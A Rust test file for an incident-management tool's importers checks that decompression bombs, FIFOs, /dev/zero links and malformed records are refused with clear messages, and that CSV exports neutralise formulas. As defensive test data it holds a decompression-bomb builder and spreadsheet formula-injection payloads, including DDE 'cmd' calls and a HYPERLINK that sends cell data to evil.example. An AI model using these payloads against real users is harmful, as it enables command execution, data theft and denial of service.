//! Issue 11, importers and incident logs: hostile archives, folders and logs
//! are refused with a message naming the file and the limit, or skipped with
//! a warning, in bounded memory and time; rejected records say why and
//! where; an import that keeps nothing writes nothing; importer CSVs are
//! formula-safe.

mod common;

use common::{imcm, imcm_bounded, root, write};
use flate2::{Compress, Compression, Crc, FlushCompress};
use predicates::prelude::*;
use predicates::str::contains;
use std::path::{Path, PathBuf};

/// Raw-deflate `input` into `out`, ending with `flush`.
fn deflate(z: &mut Compress, input: &[u8], out: &mut Vec<u8>, flush: FlushCompress) {
    let mut rest = input;
    loop {
        let mut buf = Vec::with_capacity(64 << 10);
        let before = z.total_in();
        let status = z.compress_vec(rest, &mut buf, flush).unwrap();
        rest = &rest[(z.total_in() - before) as usize..];
        let full = buf.len() == buf.capacity();
        out.extend_from_slice(&buf);
        let done = match flush {
            FlushCompress::Finish => status == flate2::Status::StreamEnd,
            _ => rest.is_empty() && !full,
        };
        if done {
            return;
        }
    }
}

/// A `.tar.gz` holding one entry `name` of `size` spaces, built the way a
/// decompression bomb is: one MiB of spaces is compressed once, ending on
/// a full flush (a self-contained, byte-aligned piece of deflate), and that
/// piece is repeated; the CRC of the whole is combined from the piece's. A
/// 3 GiB entry makes an archive of about 3 MB in a fraction of a second,
/// without ever holding the expanded bytes.
fn spaces_tar_gz(path: &Path, name: &str, size: u64) {
    const PIECE: u64 = 1 << 20;
    let mut header = tar::Header::new_gnu();
    header.set_path(name).unwrap();
    header.set_size(size);
    header.set_mode(0o644);
    header.set_entry_type(tar::EntryType::Regular);
    header.set_cksum();
    let mut z = Compress::new(Compression::best(), false);
    let mut crc = Crc::new();
    let mut body = Vec::new();
    deflate(&mut z, header.as_bytes(), &mut body, FlushCompress::Full);
    crc.update(header.as_bytes());
    let spaces = vec![b' '; PIECE as usize];
    let mut piece = Vec::new();
    deflate(&mut z, &spaces, &mut piece, FlushCompress::Full);
    let mut piece_crc = Crc::new();
    piece_crc.update(&spaces);
    for _ in 0..size / PIECE {
        body.extend_from_slice(&piece);
        crc.combine(&piece_crc);
    }
    // The rest of the entry, its padding to 512 bytes and the two zero
    // blocks that end a tar archive.
    let mut tail = vec![b' '; (size % PIECE) as usize];
    tail.resize(tail.len() + ((512 - size % 512) % 512) as usize + 1024, 0);
    deflate(&mut z, &tail, &mut body, FlushCompress::Finish);
    crc.update(&tail);
    let mut gz = vec![0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 0xff];
    gz.extend_from_slice(&body);
    gz.extend_from_slice(&crc.sum().to_le_bytes());
    gz.extend_from_slice(&crc.amount().to_le_bytes());
    std::fs::write(path, gz).unwrap();
}

/// A `.tar.gz` of the given (name, bytes) entries.
fn tar_gz(path: &Path, entries: &[(&str, &[u8])]) {
    let file = std::fs::File::create(path).unwrap();
    let gz = flate2::write::GzEncoder::new(file, Compression::fast());
    let mut tar = tar::Builder::new(gz);
    for (name, bytes) in entries {
        let mut h = tar::Header::new_gnu();
        h.set_size(bytes.len() as u64);
        h.set_mode(0o644);
        h.set_cksum();
        tar.append_data(&mut h, name, *bytes).unwrap();
    }
    tar.into_inner().unwrap().finish().unwrap();
}

fn veris_record(id: &str) -> String {
    serde_json::json!({
        "incident_id": id,
        "plus": {"modified": "2020-01-01T00:00:00Z"},
        "timeline": {"incident": {"year": 2019, "month": 5, "day": 3}},
        "action": {"malware": {"variety": ["Ransomware"]}},
    })
    .to_string()
}

fn misp_event(uuid: &str, info: &str) -> String {
    serde_json::json!({"Event": {
        "uuid": uuid, "date": "2026-02-03", "threat_level_id": "2", "info": info,
        "Orgc": {"name": "Acme"},
        "Tag": [{"name": "rsit:malicious-code=\"ransomware\""}]
    }})
    .to_string()
}

fn thehive_case(number: u64, title: &str) -> String {
    serde_json::json!({
        "_type": "Case", "number": number, "title": title, "severity": 2,
        "startDate": 1_767_602_400_000u64, "tags": ["malware"], "status": "New"
    })
    .to_string()
}

fn mkfifo(path: &Path) {
    let ok = std::process::Command::new("mkfifo")
        .arg(path)
        .status()
        .unwrap()
        .success();
    assert!(ok, "mkfifo {}", path.display());
}

/// `imcm incidents import --from FROM PATH --out OUT` under a 1 GiB
/// address-space ceiling and the two-minute timeout.
fn import(from: &str, path: &Path, out: &Path) -> assert_cmd::Command {
    let mut cmd = imcm_bounded(1024);
    cmd.args(["incidents", "import", "--from", from])
        .arg(path)
        .arg("--out")
        .arg(out);
    cmd
}

fn stderr_of(output: &std::process::Output) -> String {
    String::from_utf8_lossy(&output.stderr).into_owned()
}

#[test]
fn a_tar_entry_expanding_to_3_gib_is_refused_quickly_at_the_default_limit() {
    let dir = tempfile::tempdir().unwrap();
    let archive = dir.path().join("vcdb.tar.gz");
    spaces_tar_gz(&archive, "vcdb/big.json", 3 << 30);
    let stored = std::fs::metadata(&archive).unwrap().len();
    assert!(stored < 8 << 20, "the bomb is small on disk: {stored}");
    let out = dir.path().join("out.csv");
    let started = std::time::Instant::now();
    import("veris", &archive, &out)
        .assert()
        .code(1)
        .stderr(contains("vcdb.tar.gz, entry vcdb/big.json"))
        .stderr(contains(
            "3 GiB is over the limit archive-entry-bytes (64 MiB)",
        ))
        .stderr(contains("--limit archive-entry-bytes=VALUE"));
    assert!(!out.exists(), "nothing written");
    // Refused from the entry's size before it is expanded (the run before
    // the fix took 47 s and 3.2 GB to read it).
    assert!(
        started.elapsed() < std::time::Duration::from_secs(60),
        "{:?}",
        started.elapsed()
    );
}

#[test]
fn a_tar_entry_past_a_lowered_limit_is_refused_and_a_raised_one_lets_it_through() {
    let dir = tempfile::tempdir().unwrap();
    let archive = dir.path().join("big.tar.gz");
    // 300 MiB of spaces: a few hundred MB past a 1 MiB limit.
    spaces_tar_gz(&archive, "records/big.json", 300 << 20);
    let out = dir.path().join("out.csv");
    import("veris", &archive, &out)
        .args(["--limit", "archive-entry-bytes=1M"])
        .assert()
        .code(1)
        .stderr(contains("big.tar.gz, entry records/big.json"))
        .stderr(contains("over the limit archive-entry-bytes (1 MiB)"));
    assert!(!out.exists());
    // A small archive under the same lowered limit still imports.
    let small = dir.path().join("small.tar.gz");
    let record = veris_record("A");
    tar_gz(&small, &[("records/a.json", record.as_bytes())]);
    import("veris", &small, &out)
        .args(["--limit", "archive-entry-bytes=1M"])
        .assert()
        .success()
        .stdout(contains("read 1 VERIS records"));
}

#[test]
fn an_archive_expanding_past_its_total_limit_is_refused_naming_the_archive() {
    let dir = tempfile::tempdir().unwrap();
    let archive = dir.path().join("many.tar.gz");
    let filler = vec![b' '; 1 << 20];
    let record = veris_record("A");
    let mut entries: Vec<(String, Vec<u8>)> = (0..12)
        .map(|i| (format!("r/{i:02}.json"), filler.clone()))
        .collect();
    // Entries that are not records count too: skipping them expands them.
    entries.push(("r/blob.bin".into(), filler.clone()));
    entries.push(("r/zz.json".into(), record.into_bytes()));
    let refs: Vec<(&str, &[u8])> = entries
        .iter()
        .map(|(n, b)| (n.as_str(), b.as_slice()))
        .collect();
    tar_gz(&archive, &refs);
    let out = dir.path().join("out.csv");
    import("veris", &archive, &out)
        .args(["--limit", "archive-total-bytes=8M"])
        .assert()
        .code(1)
        .stderr(contains("many.tar.gz: "))
        .stderr(contains("over the limit archive-total-bytes (8 MiB)"));
    assert!(!out.exists());
}

#[test]
fn a_fifo_named_json_in_a_folder_is_skipped_with_a_warning_instead_of_hanging() {
    let dir = tempfile::tempdir().unwrap();
    for (from, record) in [
        ("veris", veris_record("A")),
        ("misp", misp_event("u1", "Ransomware at the depot")),
        ("thehive", thehive_case(1, "Ransomware at the depot")),
    ] {
        let folder = dir.path().join(from);
        std::fs::create_dir(&folder).unwrap();
        write(&folder, "a.json", &record);
        mkfifo(&folder.join("x.json"));
        let out = dir.path().join(format!("{from}.csv"));
        let output = import(from, &folder, &out)
            .assert()
            .success()
            .get_output()
            .clone();
        let err = stderr_of(&output);
        assert!(
            err.contains("warning: skipped")
                && err.contains("x.json")
                && err.contains("not a regular file"),
            "{from}: {err}"
        );
        let text = std::fs::read_to_string(&out).unwrap();
        assert_eq!(text.lines().count(), 2, "{from}: one record kept\n{text}");
    }
}

#[test]
fn a_link_to_dev_zero_in_a_folder_is_skipped_instead_of_read_until_memory_runs_out() {
    let dir = tempfile::tempdir().unwrap();
    for (from, record) in [
        ("veris", veris_record("A")),
        ("misp", misp_event("u1", "Phishing")),
        ("thehive", thehive_case(1, "Phishing")),
    ] {
        let folder = dir.path().join(from);
        std::fs::create_dir(&folder).unwrap();
        write(&folder, "a.json", &record);
        std::os::unix::fs::symlink("/dev/zero", folder.join("z.json")).unwrap();
        std::os::unix::fs::symlink("missing.json", folder.join("broken.json")).unwrap();
        let out = dir.path().join(format!("{from}.csv"));
        let output = import(from, &folder, &out)
            .assert()
            .success()
            .get_output()
            .clone();
        let err = stderr_of(&output);
        assert!(
            err.contains("z.json: not a regular file") && err.contains("broken.json"),
            "{from}: {err}"
        );
        assert_eq!(std::fs::read_to_string(&out).unwrap().lines().count(), 2);
    }
}

#[test]
fn a_folder_link_that_loops_is_not_followed_and_a_link_to_a_record_is() {
    let dir = tempfile::tempdir().unwrap();
    let folder = dir.path().join("records");
    std::fs::create_dir(&folder).unwrap();
    let elsewhere = write(dir.path(), "b.json", &veris_record("B"));
    write(&folder, "a.json", &veris_record("A"));
    std::os::unix::fs::symlink(&elsewhere, folder.join("b.json")).unwrap();
    std::os::unix::fs::symlink(&folder, folder.join("loop")).unwrap();
    let out = dir.path().join("out.csv");
    let output = import("veris", &folder, &out)
        .assert()
        .success()
        .stdout(contains("read 2 VERIS records"))
        .get_output()
        .clone();
    assert!(
        stderr_of(&output).contains("loop: a link to a folder"),
        "{}",
        stderr_of(&output)
    );
}

#[test]
fn a_pipe_or_device_given_as_the_path_is_refused() {
    let dir = tempfile::tempdir().unwrap();
    let fifo = dir.path().join("events.json");
    mkfifo(&fifo);
    let out = dir.path().join("out.csv");
    for from in ["veris", "misp", "thehive"] {
        import(from, &fifo, &out)
            .assert()
            .code(1)
            .stderr(contains("events.json"))
            .stderr(contains("not a regular file"));
        import(from, Path::new("/dev/zero"), &out)
            .assert()
            .code(1)
            .stderr(contains("/dev/zero"))
            .stderr(contains("not a regular file"));
    }
    assert!(!out.exists());
}

#[test]
fn a_folder_file_over_the_entry_limit_is_refused_naming_the_file() {
    let dir = tempfile::tempdir().unwrap();
    let folder = dir.path().join("events");
    std::fs::create_dir(&folder).unwrap();
    write(&folder, "a.json", &misp_event("u1", "x"));
    let mut big = misp_event("u2", "x");
    big.push_str(&" ".repeat(2 << 20));
    write(&folder, "big.json", &big);
    let out = dir.path().join("out.csv");
    import("misp", &folder, &out)
        .args(["--limit", "archive-entry-bytes=1M"])
        .assert()
        .code(1)
        .stderr(contains("big.json: "))
        .stderr(contains("over the limit archive-entry-bytes (1 MiB)"));
    assert!(!out.exists());
}

#[test]
fn every_rejected_veris_record_is_named_with_its_reason_then_counted() {
    let dir = tempfile::tempdir().unwrap();
    let folder = dir.path().join("records");
    std::fs::create_dir(&folder).unwrap();
    write(&folder, "good.json", &veris_record("GOOD"));
    for i in 0..6 {
        write(&folder, &format!("no-id-{i}.json"), "{\"victim\": {}}");
    }
    write(
        &folder,
        "broken.json",
        "{\"incident_id\": \"B\",\n  \"plus\": }",
    );
    write(&folder, "list.json", "[1, 2]");
    let out = dir.path().join("out.csv");
    let output = import("veris", &folder, &out)
        .assert()
        .success()
        .stdout(contains("rejected files: 8"))
        .get_output()
        .clone();
    let err = stderr_of(&output);
    // Sorted by name: broken, list, no-id-0 … no-id-2 shown, 3 more counted.
    assert!(
        err.contains("broken.json: not JSON: expected value at line 2 column 11"),
        "{err}"
    );
    assert!(
        err.contains("list.json: a list where a JSON object (one VERIS record) is expected"),
        "{err}"
    );
    assert!(
        err.contains("no-id-0.json: field incident_id: missing"),
        "{err}"
    );
    assert!(!err.contains("no-id-5.json"), "{err}");
    assert!(
        err.contains("… and 3 more rejected; --list-rejected lists them all"),
        "{err}"
    );
    let output = import("veris", &folder, &out)
        .args(["--force", "--list-rejected"])
        .assert()
        .success()
        .get_output()
        .clone();
    let err = stderr_of(&output);
    assert_eq!(
        err.lines().filter(|l| l.starts_with("rejected ")).count(),
        8,
        "{err}"
    );
    assert!(!err.contains("more rejected"), "{err}");
    // 8 of the 9 records: over 5 %, a warning (issue 13), and under
    // --strict nothing is written.
    assert!(
        err.contains(
            "warning: 8 of 9 records (88.9 %) could not be imported and are not in the log"
        ),
        "{err}"
    );
    let strict = dir.path().join("strict.csv");
    import("veris", &folder, &strict)
        .arg("--strict")
        .assert()
        .code(1)
        .stderr(contains("8 of 9 records (88.9 %)"));
    assert!(!strict.exists());
}

#[test]
fn an_import_where_every_record_is_rejected_exits_1_and_writes_nothing() {
    let dir = tempfile::tempdir().unwrap();
    for (from, bad) in [
        ("veris", "{\"incident_id\": [\"X\"]}"),
        ("misp", "{\"response\": []}"),
        ("thehive", "{\"title\": \"no start date\"}"),
    ] {
        let folder = dir.path().join(from);
        std::fs::create_dir(&folder).unwrap();
        write(&folder, "a.json", bad);
        write(&folder, "b.json", "garbage");
        let out = dir.path().join(format!("{from}.csv"));
        let output = import(from, &folder, &out)
            .assert()
            .code(1)
            .stderr(contains(
                "no record could be imported from the 2 files read, so nothing was written",
            ))
            .stderr(contains(
                "b.json: not JSON: expected value at line 1 column 1",
            ))
            .get_output()
            .clone();
        assert!(stderr_of(&output).contains("a.json: "), "{from}");
        assert!(!out.exists(), "{from}: nothing written");
    }
}

#[test]
fn an_import_that_finds_nothing_exits_1_and_writes_nothing() {
    let dir = tempfile::tempdir().unwrap();
    let folder = dir.path().join("empty");
    std::fs::create_dir(&folder).unwrap();
    mkfifo(&folder.join("x.json"));
    for from in ["veris", "misp", "thehive"] {
        let out = dir.path().join(format!("{from}.csv"));
        import(from, &folder, &out)
            .assert()
            .code(1)
            .stderr(contains("warning: skipped"))
            .stderr(contains("found").or(contains("no .json records")));
        assert!(!out.exists(), "{from}");
    }
}

/// Every cell of `csv` whose text would start a formula must start with an
/// apostrophe; returns the data cells.
fn cells(csv: &Path) -> Vec<String> {
    let mut reader = csv::Reader::from_path(csv).unwrap();
    let mut out = Vec::new();
    for r in reader.records() {
        out.extend(r.unwrap().iter().map(str::to_string));
    }
    out
}

#[test]
fn importer_csvs_neutralise_formulas_like_every_other_csv_export() {
    let dir = tempfile::tempdir().unwrap();
    let payloads = [
        "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "=cmd|' /C calc'!A0",
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "\t=1+1",
    ];
    let check = |csv: &Path, expected: &[&str]| {
        let cells = cells(csv);
        for p in expected {
            assert!(
                cells.contains(&format!("'{p}")),
                "{}: {p:?} not neutralised: {cells:?}",
                csv.display()
            );
            assert!(!cells.contains(&p.to_string()), "{p:?} written raw");
        }
    };

    // MISP: the event info and a tag.
    let misp = dir.path().join("misp");
    std::fs::create_dir(&misp).unwrap();
    for (i, p) in payloads.iter().enumerate() {
        write(
            &misp,
            &format!("e{i}.json"),
            &misp_event(&format!("u{i}"), p),
        );
    }
    let out = dir.path().join("misp.csv");
    import("misp", &misp, &out).assert().success();
    check(&out, &payloads);

    // TheHive: the case title.
    let hive = dir.path().join("hive");
    std::fs::create_dir(&hive).unwrap();
    let cases: Vec<serde_json::Value> = payloads
        .iter()
        .enumerate()
        .map(|(i, p)| serde_json::from_str(&thehive_case(i as u64 + 1, p)).unwrap())
        .collect();
    write(&hive, "cases.json", &serde_json::to_string(&cases).unwrap());
    let out = dir.path().join("hive.csv");
    import("thehive", &hive, &out).assert().success();
    check(&out, &payloads);

    // VERIS: the incident id and the modification text reach the CSV; and
    // --org, which every importer writes into each row.
    let veris = dir.path().join("veris");
    std::fs::create_dir(&veris).unwrap();
    write(
        &veris,
        "a.json",
        &serde_json::json!({"incident_id": payloads[0], "plus": {"modified": payloads[1]}})
            .to_string(),
    );
    write(
        &veris,
        "b.json",
        &serde_json::json!({"incident_id": payloads[2]}).to_string(),
    );
    let out = dir.path().join("veris.csv");
    import("veris", &veris, &out)
        .args(["--org", payloads[3]])
        .assert()
        .success();
    check(&out, &payloads[..4]);

    // Parquet keeps the values as they are: it is not opened as a formula.
    let parquet = dir.path().join("veris.parquet");
    import("veris", &veris, &parquet).assert().success();
    use polars::prelude::SerReader;
    let df = polars::prelude::ParquetReader::new(std::fs::File::open(&parquet).unwrap())
        .finish()
        .unwrap();
    let ids: Vec<String> = df
        .column("id")
        .unwrap()
        .str()
        .unwrap()
        .iter()
        .flatten()
        .map(str::to_string)
        .collect();
    assert!(ids.contains(&payloads[2].to_string()), "{ids:?}");
}

#[test]
fn a_json_lines_log_with_a_list_where_text_is_expected_names_file_line_and_field() {
    let dir = tempfile::tempdir().unwrap();
    let log = write(
        dir.path(),
        "log.jsonl",
        "{\"id\":\"a\",\"org\":\"Acme\",\"category\":\"malware\",\"detected_at\":\"2026-01-02T00:00:00\"}\n\
         {\"id\":\"b\",\"org\":\"Acme\",\"category\":[\"malware\",\"phishing\"],\"detected_at\":\"2026-01-02T00:00:00\"}\n",
    );
    imcm()
        .args(["kpi", "--incidents"])
        .arg(&log)
        .assert()
        .code(1)
        .stderr(contains("log.jsonl: line 2, field \"category\""))
        .stderr(contains(
            "a list where text, a number or nothing is expected",
        ))
        .stderr(contains("cannot cast").not());
    // The first line's list, too (before: `cannot cast List type` and no place).
    let log = write(
        dir.path(),
        "first.jsonl",
        "{\"id\":{\"n\":1},\"org\":\"Acme\",\"detected_at\":\"2026-01-02T00:00:00\"}\n",
    );
    imcm()
        .args(["kpi", "--incidents"])
        .arg(&log)
        .assert()
        .code(1)
        .stderr(contains("first.jsonl: line 1, field \"id\""))
        .stderr(contains("an object where text"));
    // A mapped field is checked under its own name.
    let map = write(dir.path(), "map.toml", "[columns]\nseverity = \"prio\"\n");
    let log = write(
        dir.path(),
        "mapped.jsonl",
        "{\"id\":\"a\",\"org\":\"Acme\",\"prio\":[1],\"detected_at\":\"2026-01-02T00:00:00\"}\n",
    );
    imcm()
        .args(["kpi", "--incidents"])
        .arg(&log)
        .arg("--map")
        .arg(&map)
        .assert()
        .code(1)
        .stderr(contains("line 1, field \"prio\" (read as severity)"));
}

#[test]
fn a_json_lines_log_with_a_broken_line_names_the_line_and_column() {
    let dir = tempfile::tempdir().unwrap();
    let log = write(
        dir.path(),
        "log.jsonl",
        "{\"id\":\"a\",\"org\":\"Acme\",\"detected_at\":\"2026-01-02T00:00:00\"}\n\n\
         {\"id\":\"b\",org:\"Acme\"}\n",
    );
    imcm()
        .args(["kpi", "--incidents"])
        .arg(&log)
        .assert()
        .code(1)
        .stderr(contains(
            "log.jsonl: line 3, column 11: not valid JSON: key must be a string",
        ));
    let log = write(dir.path(), "list.jsonl", "[{\"id\":\"a\"}]\n");
    imcm()
        .args(["kpi", "--incidents"])
        .arg(&log)
        .assert()
        .code(1)
        .stderr(contains(
            "list.jsonl: line 1: a list where a JSON object (one incident per line) is expected",
        ));
}

#[test]
fn a_json_lines_field_that_changes_type_after_the_first_hundred_lines_is_read_as_text() {
    // polars infers a column's type from the first lines: an id that is a
    // number for 150 lines and then text failed with `cannot parse 'x-1'
    // (string) as Int64`, and a field first seen after them was dropped.
    let dir = tempfile::tempdir().unwrap();
    let mut text = String::new();
    for i in 0..150 {
        text.push_str(&format!(
            "{{\"id\":{i},\"org\":\"Acme\",\"detected_at\":\"2026-01-02T00:00:00\"}}\n"
        ));
    }
    text.push_str(
        "{\"id\":\"x-1\",\"org\":\"Acme\",\"category\":\"malware\",\"detected_at\":\"2026-01-02T00:00:00\",\"lessons_learned\":true}\n",
    );
    let log = write(dir.path(), "log.jsonl", &text);
    imcm()
        .args(["kpi", "--incidents"])
        .arg(&log)
        .args(["--format", "csv"])
        .assert()
        .success()
        .stdout(contains("Acme,,2026-Q1,,,incidents,151,151"))
        .stdout(contains("Acme,,2026-Q1,malware,,incidents,1,1"));
}

fn example_log() -> PathBuf {
    root().join("examples/data/incidents.csv")
}

#[test]
fn a_csv_log_over_the_row_limit_is_refused_naming_file_rows_and_limit() {
    imcm_bounded(1024)
        .args(["kpi", "--incidents"])
        .arg(example_log())
        .args(["--limit", "incident-rows=10"])
        .assert()
        .code(1)
        .stderr(contains(
            "incidents.csv: 2001 is over the limit incident-rows (10)",
        ))
        .stderr(contains("--limit incident-rows=VALUE"));
    // At the limit it is read.
    imcm()
        .args(["kpi", "--incidents"])
        .arg(example_log())
        .args(["--limit", "incident-rows=2001", "--quality"])
        .assert()
        .success()
        .stdout(contains("2001 rows read"));
    // A log that must be decoded first (here: a byte-order mark) is counted too.
    let dir = tempfile::tempdir().unwrap();
    let mut bom = b"\xEF\xBB\xBF".to_vec();
    bom.extend(std::fs::read(example_log()).unwrap());
    let log = common::write_bytes(dir.path(), "bom.csv", &bom);
    imcm()
        .args(["kpi", "--incidents"])
        .arg(&log)
        .args(["--limit", "incident-rows=10"])
        .assert()
        .code(1)
        .stderr(contains(
            "bom.csv: 2001 is over the limit incident-rows (10)",
        ));
}

#[test]
fn parquet_and_json_lines_logs_over_the_row_limit_are_refused() {
    let dir = tempfile::tempdir().unwrap();
    let parquet = dir.path().join("log.parquet");
    let folder = dir.path().join("records");
    std::fs::create_dir(&folder).unwrap();
    for i in 0..12 {
        write(
            &folder,
            &format!("{i}.json"),
            &veris_record(&format!("R{i}")),
        );
    }
    import("veris", &folder, &parquet).assert().success();
    imcm_bounded(1024)
        .args(["kpi", "--incidents"])
        .arg(&parquet)
        .args(["--period-from", "occurred", "--limit", "incident-rows=10"])
        .assert()
        .code(1)
        .stderr(contains(
            "log.parquet: 12 is over the limit incident-rows (10)",
        ));
    imcm()
        .args(["kpi", "--incidents"])
        .arg(&parquet)
        .args(["--period-from", "occurred", "--limit", "incident-rows=12"])
        .assert()
        .success();

    let mut text = String::new();
    for i in 0..12 {
        text.push_str(&format!(
            "{{\"id\":\"{i}\",\"org\":\"Acme\",\"detected_at\":\"2026-01-02T00:00:00\"}}\n"
        ));
    }
    let log = write(dir.path(), "log.jsonl", &text);
    imcm()
        .args(["kpi", "--incidents"])
        .arg(&log)
        .args(["--limit", "incident-rows=10"])
        .assert()
        .code(1)
        .stderr(contains("log.jsonl: "))
        .stderr(contains("over the limit incident-rows (10)"));
}

#[test]
fn an_incident_log_that_is_a_pipe_or_device_is_refused_without_blocking() {
    let dir = tempfile::tempdir().unwrap();
    let fifo = dir.path().join("log.csv");
    mkfifo(&fifo);
    let zero = dir.path().join("zero.jsonl");
    std::os::unix::fs::symlink("/dev/zero", &zero).unwrap();
    for log in [&fifo, &zero] {
        imcm_bounded(1024)
            .args(["kpi", "--incidents"])
            .arg(log)
            .assert()
            .code(1)
            .stderr(contains(log.file_name().unwrap().to_str().unwrap()))
            .stderr(contains("not a regular file"));
    }
}
